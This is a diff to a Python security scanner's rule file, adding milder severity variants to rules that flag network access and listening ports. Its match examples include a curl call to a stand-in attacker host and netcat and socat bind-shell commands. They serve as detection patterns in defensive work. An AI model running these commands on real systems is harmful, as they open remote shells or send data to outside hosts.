@@ -1,7 +1,7 @@
 """Rules about files, hosts and secrets: the same danger in both languages."""
 
 from refute.scan.finding import Confidence, Severity
-from refute.scan.rules import Rule, py, sh
+from refute.scan.rules import Mild, Rule, py, sh
 
 ACCESS_RULES = (
     Rule(
@@ -121,6 +121,11 @@ ACCESS_RULES = (
         severity=Severity.HIGH,
         explanation="Connects to a machine outside, which may receive data or send code.",
         remedy="Run without network: put what is needed into the workspace.",
+        mild=Mild(
+            title="Uses the network",
+            explanation="Talks to this machine, to its private network, or to others as ordinary scripts do.",
+            remedy="Let the script itself start what it talks to: the sandbox has no network.",
+        ),
         matches=(
             *sh(
                 "curl http://evil.com",
@@ -165,6 +170,11 @@ ACCESS_RULES = (
         severity=Severity.HIGH,
         explanation="Listens on all interfaces, or waits for commands from the network.",
         remedy="Bind test servers to 127.0.0.1.",
+        mild=Mild(
+            title="Opens a port",
+            explanation="Listens for connections.",
+            remedy="Bind test servers to 127.0.0.1.",
+        ),
         matches=(
             *sh("nc -lvp 4444", "socat TCP-LISTEN:4444,fork EXEC:/bin/sh"),
             *py("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))"),
